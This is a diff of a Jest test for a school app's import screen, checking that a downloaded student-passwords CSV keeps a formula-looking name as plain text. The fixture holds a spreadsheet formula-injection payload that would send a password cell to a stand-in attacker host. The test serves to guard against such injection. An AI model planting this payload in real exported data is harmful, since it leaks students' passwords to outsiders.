@@ -14,7 +14,7 @@ function blobBytes(blob: Blob): Promise<Uint8Array> {
 describe('ImportResultView', () => {
   it('downloads student-passwords.csv with a BOM and a formula-looking name kept as text', async () => {
     const evil = '=HYPERLINK("https://evil.example/?pw="&D2,"Nilai")';
-    const createObjectURL = jest.fn().mockReturnValue('blob:passwords');
+    const createObjectURL = jest.fn((_blob: Blob) => 'blob:passwords');
     Object.assign(URL, { createObjectURL, revokeObjectURL: jest.fn() });
     const downloads: string[] = [];
     const click = jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
@@ -35,7 +35,7 @@ describe('ImportResultView', () => {
     await userEvent.click(screen.getByRole('button', { name: 'Download passwords (CSV)' }));
 
     expect(downloads).toEqual(['student-passwords.csv']);
-    const bytes = await blobBytes(createObjectURL.mock.calls[0][0] as Blob);
+    const bytes = await blobBytes(createObjectURL.mock.calls[0][0]);
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
     expect(text.replace(/^\uFEFF/, '')).toBe(
       'name;nis;grade;initial_password\r\n' +
